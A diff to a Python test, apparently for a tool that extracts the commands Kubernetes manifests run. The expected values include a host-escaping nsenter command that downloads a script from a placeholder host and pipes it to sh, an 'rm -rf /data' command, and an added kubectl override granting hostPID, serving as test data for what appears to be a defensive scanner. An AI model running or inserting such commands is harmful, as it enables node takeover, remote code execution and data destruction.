@@ -57,6 +57,8 @@ def test_kubernetes_workloads_run_their_containers_commands() -> None:
     assert commands_in("k8s/debug-pod.yaml", manifest) == [
         "nsenter -t 1 -m sh -c 'curl -s https://x.example/n | sh'",
         "sh -c 'rm -rf /data'",
+        # What the pod takes from its node, as the equivalent `kubectl run --overrides`.
+        'kubectl run manifest \'--overrides={"spec":{"hostPID":true}}\'',
     ]
     service = "apiVersion: v1\nkind: Service\nspec:\n  ports: [{port: 80}]\n"
     assert commands_in("k8s/svc.yaml", service) == []
